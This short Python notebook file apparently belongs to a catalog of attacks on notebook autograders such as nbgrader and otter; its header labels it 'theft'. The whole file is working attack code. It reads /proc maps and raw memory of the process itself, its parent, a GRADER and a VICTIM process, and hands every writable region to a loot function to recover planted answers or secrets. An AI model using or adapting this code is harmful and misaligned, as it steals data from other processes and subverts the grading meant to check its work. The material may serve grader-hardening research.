# tries = "Every byte of the process's own memory, and of its parents', searched for what was planted"
# intenta = "Cada byte de la memoria propia y de la de los padres, revisado por lo que se plantó"
# kind = "theft"
# peers = ["nbgrader", "otter"]

# %%
# [q1-weigh]
def scan(process):
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
            for line in maps:
                span, modes = line.split()[:2]
                low, high = (int(number, 16) for number in span.split("-"))
                if not modes.startswith("rw") or high - low > 1 << 28:
                    continue
                try:
                    memory.seek(low)
                    loot(memory.read(high - low))
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        pass


scan("self")

# %%
# [q2-count]
scan(os.getppid())
scan(GRADER)
scan(VICTIM)
